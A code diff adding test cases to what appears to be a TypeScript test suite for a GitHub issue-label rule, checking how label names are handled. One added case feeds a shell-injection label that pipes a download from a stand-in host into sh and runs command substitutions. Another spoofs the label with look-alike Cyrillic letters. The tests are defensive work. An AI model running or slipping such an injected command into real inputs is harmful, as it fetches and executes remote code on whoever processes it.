@@ -35,6 +35,20 @@ const EVENTS: readonly {
     verdict: /the label is cursor-no/,
   },
   {
+    name: "a label that a shell would run, whose name is kept out of the output",
+    event: "issues",
+    payload: labeledIssue({ label: { name: '"; curl evil.example | sh; $(id) `id` @octocat' } }),
+    rules: LABEL,
+    verdict: /^the label is another one, and `label` is cursor$/,
+  },
+  {
+    name: "the label in letters that only look like it",
+    event: "issues",
+    payload: labeledIssue({ label: { name: "с\u0443rsor" } }),
+    rules: LABEL,
+    verdict: /^the label is с\u0443rsor, and `label` is cursor$/,
+  },
+  {
     name: "a part of the label",
     event: "issues",
     payload: labeledIssue({ label: { name: "curs" } }),
